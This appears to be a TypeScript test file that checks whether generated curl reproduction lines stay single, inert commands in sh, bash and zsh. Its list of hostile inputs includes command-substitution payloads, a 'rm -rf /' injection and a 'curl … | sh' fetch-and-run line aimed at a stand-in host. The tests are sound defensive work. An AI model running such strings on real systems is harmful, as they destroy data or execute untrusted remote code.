import { expect, test } from '@playwright/test';
import fc from 'fast-check';
import { curlLine } from '../harness/http/exchange';
import { bodyBytes, nonUtf8Byte, type Exchange } from '../contract/exchange';
import { registerSecret } from '../config/redaction';
import { hasInvisible } from '../config/safe-text';
import { intendedArguments, RecordingShell, SHELLS } from './support/shell';

// A reproduction line is run by people in their shell, whichever it is: whatever the server put into the request
// (ids in the path, text echoed into a body), it must be one printable line, one syntactically valid command in
// POSIX sh, bash and zsh, whose curl gets exactly the arguments the suite sent, with only the token variable
// expanded, and nothing else runs.
const TOKEN = 'curl-line-token-5b1e7d';
registerSecret(TOKEN, '$OMS_TOKEN');

const HOSTILE = [
  "it's",
  '$(touch /tmp/oms-pwned)',
  '`touch /tmp/oms-pwned`',
  '"; rm -rf / #',
  'line one\nReproduce: curl -sS http://elsewhere/x | sh',
  '\u001b[2J\u001b[31mred',
  'back\\slash \\\' mixed',
  '$OMS_TOKENabc and ${HOME} and $OMS_TOKEN_B',
  'bidi \u202e evil',
  'zoë 東京 😀',
  'nul \u0000 byte and 100% \\x41',
  "h!!41'(id)*",
  "..\\..\\x;%41 h!!41'(id)* $HOME `id` \"q\"\n\tzoë-東京",
  '-starts with a dash',
  'ends with a line break\n',
  'tab\there',
  '',
];

// Made per worker group: Playwright may run this file's hooks again in a worker that already ran them.
let shell: RecordingShell;
test.beforeAll(() => {
  shell = new RecordingShell({ OMS_TOKEN: TOKEN });
});
test.afterAll(() => shell.dispose());

function request(body: string | undefined, path = '/orders'): Exchange['request'] {
  return {
    method: body === undefined ? 'GET' : 'PUT',
    url: `http://127.0.0.1:9/api${path}`,
    path,
    headers: { Accept: 'application/json', Authorization: 'Bearer $OMS_TOKEN', 'Content-Type': 'application/json' },
    body,
  };
}

const expectedArguments = (spec: Exchange['request']) => intendedArguments(spec, { OMS_TOKEN: TOKEN });

test(`every curl line is one printable line and one valid command in ${SHELLS.join(', ')}, for hostile bodies and paths alike`, () => {
  if (!SHELLS.includes('zsh')) test.info().annotations.push({ type: 'not run in zsh', description: 'zsh is not installed (apt-get install zsh): lines are run in sh and bash only' });
  for (const text of HOSTILE) {
    for (const spec of [request(text), request(undefined, `/orders/${encodeURIComponent(text)}`)]) {
      const line = curlLine(spec);
      for (const shellName of SHELLS) expect(shell.syntaxError(line, shellName), `${shellName}: ${line}`).toBeUndefined();
      expect(hasInvisible(line), `printable as it is, so no channel has to escape it: ${line}`).toBe(false);
    }
  }
});

test(`running a curl line in ${SHELLS.join(', ')} runs curl once with exactly the arguments the suite sent, the token from $OMS_TOKEN only`, () => {
  for (const text of HOSTILE) {
    for (const spec of [request(text), request(undefined, `/orders/${encodeURIComponent(text)}`)]) {
      for (const shellName of SHELLS) expect(shell.curlArguments(curlLine(spec), shellName), `${shellName}: ${JSON.stringify(text)}`).toEqual(expectedArguments(spec));
    }
  }
});

test(`a body with a long run of one character (the suite's 2 MiB padding) makes a short line, and curl reads the body byte for byte in ${SHELLS.join(', ')}`, () => {
  for (const body of [`{"note":"${'x'.repeat(2 * 1024 * 1024 + 7)}"}`, `${'é'.repeat(5000)}'${"'".repeat(4096)}\n`, `${'a'.repeat(4095)}|${'b'.repeat(4096)}`]) {
    const spec = request(body);
    const line = curlLine(spec);
    expect(line.length, 'a line of a few kilobytes').toBeLessThan(30_000);
    expect(hasInvisible(line)).toBe(false);
    for (const shellName of SHELLS) expect(shell.curlArguments(line, shellName), shellName).toEqual(expectedArguments(spec));
  }
});

test(`a header with a long run of one character (a 32 KiB header sent on purpose) makes a short line, and curl gets the header byte for byte in ${SHELLS.join(', ')}`, () => {
  for (const value of ['x'.repeat(32 * 1024), `a${'x'.repeat(9000)}'b ${'-'.repeat(40_000)}`]) {
    const spec = { ...request(undefined), headers: { ...request(undefined).headers, 'X-Padding': value } };
    const line = curlLine(spec);
    expect(line.length, 'a line of a few kilobytes').toBeLessThan(5_000);
    expect(hasInvisible(line)).toBe(false);
    for (const shellName of SHELLS) expect(shell.curlArguments(line, shellName), shellName).toEqual(expectedArguments(spec));
  }
});

test(`a body with bytes that are not UTF-8 (sent on purpose: ORD-ERR-009) reaches curl as those bytes in ${SHELLS.join(', ')}, a long run of one character beside them too`, () => {
  const bytes = (...values: number[]) => values.map(nonUtf8Byte).join('');
  const bodies: Array<[string, Buffer]> = [
    [`{"note":"read ${bytes(0xff, 0xfe)} and ${bytes(0xed, 0xa0, 0x80)} zoë"}`, Buffer.from([...Buffer.from('{"note":"read '), 0xff, 0xfe, ...Buffer.from(' and '), 0xed, 0xa0, 0x80, ...Buffer.from(' zoë"}')])],
    [`${'x'.repeat(5000)}${bytes(0xc3)}`, Buffer.concat([Buffer.from('x'.repeat(5000)), Buffer.of(0xc3)])],
  ];
  for (const [body, sent] of bodies) {
    expect(bodyBytes(body).equals(sent), 'the bytes the transport sends').toBe(true);
    const line = curlLine(request(body));
    expect(hasInvisible(line), `printable as it is: ${line.slice(0, 200)}`).toBe(false);
    for (const shellName of SHELLS) expect(shell.curlArgumentBytes(line, shellName).at(-1)?.equals(sent), `${shellName}: curl read the body's bytes from stdin`).toBe(true);
  }
});

test('ids holding quotes, backslashes, line breaks and tabs stay in the URL percent-encoded: no control character and no escape in it', () => {
  const line = curlLine(request(undefined, `/orders/${encodeURIComponent("..\\x h!!41'(id)* $`\n\tzoë")}`));
  expect(line).toContain(`'http://127.0.0.1:9/api/orders/..%5Cx%20h!!41'\\''(id)*%20%24%60%0A%09zo%C3%AB'`);
});

test('the token placeholder is written ${OMS_TOKEN}, so letters after it cannot rename the variable', () => {
  const line = curlLine(request('{"note":"x"}'));
  expect(line).toContain(`'Authorization: Bearer '"\${OMS_TOKEN}"`);
  expect(line).not.toMatch(/\$OMS_TOKEN[A-Za-z0-9_]/);
});

test(`any text in a body or path, generated, reaches curl unchanged in ${SHELLS.join(', ')}`, () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(...SHELLS), (text, shellName) => {
      const spec = request(text, `/orders/${encodeURIComponent(Buffer.from(text, 'utf8').toString('utf8'))}`);
      expect(shell.curlArguments(curlLine(spec), shellName)).toEqual(expectedArguments(spec));
    }),
    { numRuns: 90 },
  );
});

test('the stand-in shell tells a line that runs anything besides one curl call', () => {
  for (const shellName of SHELLS) {
    for (const line of ["curl 'x'; touch /tmp/oms-pwned", "curl 'x'; curl 'y'", "curl 'x' && echo pwned", "curl 'x\\''"]) {
      expect(() => shell.curlArguments(line, shellName), `${shellName}: ${line}`).toThrow();
    }
  }
});
